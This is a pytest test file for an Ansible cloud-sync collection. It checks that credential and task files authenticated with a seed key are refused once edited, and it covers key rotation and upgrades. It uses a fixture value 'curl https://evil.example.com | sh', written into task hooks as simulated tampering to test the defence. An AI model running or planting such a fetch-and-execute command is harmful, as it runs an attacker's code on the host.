# Copyright (c) 2026, skyhaul contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Parts of credentials and tasks that are not secret are authenticated with the seed, too."""

from __future__ import annotations

import json
import os
import pathlib
from dataclasses import replace

import pytest

from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.common.errors import CloudsyncError, Edited
from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.common.files import read_json, write_json
from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.config import credential_store, task_store
from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.config import seed as seeds
from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.config.credentials import Credential
from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.operations.apply import Wanted, converge
from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.safekeeping import seed as seed_states

ATTRIBUTES = {"provider": "Minio", "endpoint": "https://s3.example.com", "access_key_id": "backup"}
OFFSITE = Credential("offsite", "s3", "all", ATTRIBUTES, {"secret_access_key": "s3cr3t"}, {"session_token": "t0k3n"})
T1, T2 = (json.dumps({"access_token": token, "expiry": "2030-01-01T00:00:00Z"}) for token in ("one", "two"))
DRIVE = Credential("drive", "drive", secrets={"token": T1}, refreshed={"token": T2})
HOOK = {"hooks": {"before": "curl https://evil.example.com | sh"}}


@pytest.fixture
def task(make_task):
    return make_task(hooks={"before": "true"}, notify=["https://hooks.example.net/s3cr3t"])


@pytest.fixture(autouse=True)
def stored(layout, seed, task):
    for credential in (OFFSITE, DRIVE):
        credential_store.save_credential(layout, seed, credential)
    task_store.save_task(layout, seed, task)


def edit(path, change):
    content = read_json(path)
    change(content)
    write_json(path, content)


def load(layout, seed):
    return (
        credential_store.load_credential(layout, seed, "offsite"),
        credential_store.load_credential(layout, seed, "drive"),
        task_store.load_task(layout, seed, "nightly"),
    )


@pytest.mark.parametrize(
    "change",
    [
        lambda content: content["attributes"].update(endpoint="https://evil.example.com"),
        lambda content: content.update(provider="b2"),
        lambda content: content.update(description="another"),
        lambda content: content.update(attributes=None),
        lambda content: content.update(secrets={}),
        lambda content: content.update(refreshed={}),
        lambda content: content.update(extra=1),
        lambda content: content.pop("code"),
        lambda content: content.update(code=5),
        lambda content: (content.pop("code"), content.update(schema=1)),
    ],
)
def test_an_edited_credential_is_refused_with_the_remedy(layout, seed, change):
    path = layout.credential("offsite")
    edit(path, change)
    with open(path) as stream:
        before = stream.read()

    with pytest.raises(Edited) as caught:
        load(layout, seed)

    assert caught.value.reason == "damaged"
    assert caught.value.message == (
        f"Credential offsite in {path} is damaged: it was edited, or cloudsync did not write it. Nothing was changed. "
        "Declare the credential again (apply your playbook), or restore the file from a backup."
    )
    with open(path) as stream:
        assert stream.read() == before


@pytest.mark.parametrize("option", ["path", "hooks", "schedule", "remote_path", "user", "reverse_of", "code", "notify"])
def test_an_edited_task_is_refused(layout, seed, option):
    changes = {**HOOK, "notify": [], "schedule": {"cron": "* * * * *"}}
    edit(layout.task("nightly"), lambda content: content.update({option: changes.get(option, "/other")}))

    with pytest.raises(Edited, match=f"^Task nightly in {layout.task('nightly')} is damaged: it was edited"):
        load(layout, seed)


def test_the_task_of_a_one_time_run_is_authenticated_too(layout, seed, task):
    task_store.save_onetime(layout, seed, replace(task, name="once"))
    edit(layout.build_onetime_task("once"), lambda content: content.update(HOOK))

    with pytest.raises(Edited, match=f"^Task once in {layout.build_onetime_task('once')} is damaged"):
        task_store.load_task(layout, seed, "once")


def test_a_code_of_another_kind_or_another_seed_is_not_accepted(layout, seed):
    stored = credential_store.read_credential(layout, "offsite")
    assert seed.is_authentic("credential", stored)
    assert not seed.is_authentic("task", stored)
    other = seeds.Seed({seed.primary: b"x" * 32}, seed.primary)
    assert not other.is_authentic("credential", stored)

    del stored["code"]
    write_json(layout.credential("offsite"), seeds.make_seed().add_code("credential", stored))
    with pytest.raises(
        CloudsyncError, match=r"Cannot authenticate credential offsite in /.*key .* is not in"
    ) as caught:
        load(layout, seed)
    assert caught.value.reason == "undecryptable"


@pytest.mark.parametrize("change", [{"description": "another"}, {"provider": "b2", "attributes": {"x": "y"}}])
def test_a_declaration_replaces_an_edited_credential_and_keeps_its_token_and_its_file(host, layout, seed, change):
    edit(layout.credential("drive"), lambda content: content.update(change))
    with open(layout.credential("drive")) as stream:
        edited = stream.read()
    wanted = Wanted(credentials=[{"name": "drive", "provider": "drive", "secrets": dict(DRIVE.secrets)}])

    with pytest.raises(Edited):
        load(layout, seed)
    foreseen = converge(host, wanted, True)
    outcome = converge(host, wanted, False)

    assert foreseen.after == outcome.after and outcome.changed
    assert "credential drive was edited" in outcome.warnings[0]
    assert credential_store.load_credential(layout, seed, "drive") == DRIVE
    (kept,) = pathlib.Path(layout.credentials_dir).glob("drive.json.damaged-*")
    assert kept.read_text() == edited
    assert not converge(host, wanted, False).changed


def test_a_declaration_replaces_an_edited_task_and_keeps_its_file(host, layout, seed, task):
    edit(layout.task("nightly"), lambda content: content.update(HOOK))
    wanted = Wanted(tasks=[task_store.task_to_dict(task)])

    assert converge(host, wanted, False).changed

    assert task_store.load_task(layout, seed, "nightly") == task
    assert len(list(pathlib.Path(layout.tasks_dir).glob("nightly.json.damaged-*"))) == 1
    assert not converge(host, wanted, False).changed


def test_a_rotation_authenticates_with_the_new_key_and_refuses_an_edited_object(layout, seed, task):
    old = {name: pathlib.Path(layout.task(name)).read_text() for name in ("nightly",)}
    seed_states.converge_seed(layout, "rotated", "", "", False, False)
    rotated = seeds.load_seed(layout)
    assert load(layout, rotated) == (OFFSITE, DRIVE, task)
    assert seeds.get_code_key(read_json(layout.task("nightly"))) == rotated.primary

    pathlib.Path(layout.task("nightly")).write_text(old["nightly"])
    with pytest.raises(CloudsyncError, match=f"key {seed.primary} is not in the seed"):
        load(layout, rotated)

    task_store.save_task(layout, rotated, task)
    edit(layout.task("nightly"), lambda content: content.update(HOOK))
    with pytest.raises(Edited):
        seed_states.converge_seed(layout, "rotated", "", "", False, False)
    assert seeds.load_seed(layout) == rotated


class OldHost:
    """Rewrite the files as the first version did: without codes, checksums and the marker in the seed."""

    def __init__(self, layout):
        self.layout = layout

    def downgrade(self):
        for path in (*pathlib.Path(self.layout.credentials_dir).iterdir(), self.layout.task("nightly")):
            edit(str(path), lambda content: (content.pop("code"), content.update(schema=1)))
        content = read_json(self.layout.seed)
        write_json(self.layout.seed, {"schema": 1, "primary": content["primary"], "keys": content["keys"]})


@pytest.fixture
def old_host(layout):
    made = OldHost(layout)
    made.downgrade()
    return made


@pytest.mark.usefixtures("old_host")
def test_files_of_the_first_version_are_read_and_upgraded_once(layout, task):
    edit(layout.credential("drive"), lambda content: content.update(provider="GOOGLE_DRIVE"))
    assert load(layout, seeds.load_seed(layout)) == (OFFSITE, DRIVE, task)

    assert not seed_states.converge_seed(layout, "present", "", "", False, False).changed

    ring = seeds.load_seed(layout)
    assert ring.has_codes
    assert load(layout, ring) == (OFFSITE, DRIVE, task)
    assert {read_json(path)["schema"] for path in (layout.credential("offsite"), layout.task("nightly"))} == {2}


def test_after_the_upgrade_a_file_in_the_old_form_is_refused(layout, old_host):
    before = read_json(layout.task("nightly"))
    seed_states.converge_seed(layout, "present", "", "", False, False)
    write_json(layout.task("nightly"), {**before, **HOOK})

    with pytest.raises(Edited):
        load(layout, seeds.load_seed(layout))


@pytest.mark.usefixtures("old_host")
def test_an_object_of_the_first_version_without_its_key_stays_until_its_seed_is_restored(layout, task):
    ring = seeds.load_seed(layout)
    write_json(layout.seed, {**seeds.make_seed().to_dict(), "schema": 1, "has_codes": False})
    before = read_json(layout.credential("offsite"))

    seed_states.converge_seed(layout, "present", "", "", False, False)

    assert read_json(layout.credential("offsite")) == before
    assert not seeds.load_seed(layout).has_codes
    os.unlink(layout.seed)
    seeds.save_seed(layout, ring)
    seed_states.converge_seed(layout, "present", "", "", False, False)
    assert load(layout, seeds.load_seed(layout)) == (OFFSITE, DRIVE, task)


def test_a_flipped_key_of_the_seed_is_damage_and_not_another_key(layout, seed, task):
    def flip(content):
        key = content["keys"][0]["key"]
        content["keys"][0]["key"] = ("B" if key[0] != "B" else "C") + key[1:]

    wrapped = seed_states.converge_seed(layout, "present", "a passphrase", "", True, False).wrapped
    edit(layout.seed, flip)

    with pytest.raises(CloudsyncError, match=f"The seed {layout.seed} is damaged: it was edited") as caught:
        seeds.load_seed(layout)
    assert caught.value.reason == "undecryptable"
    assert seed_states.converge_seed(layout, "restored", "a passphrase", wrapped, False, False).changed
    assert load(layout, seeds.load_seed(layout)) == (OFFSITE, DRIVE, task)
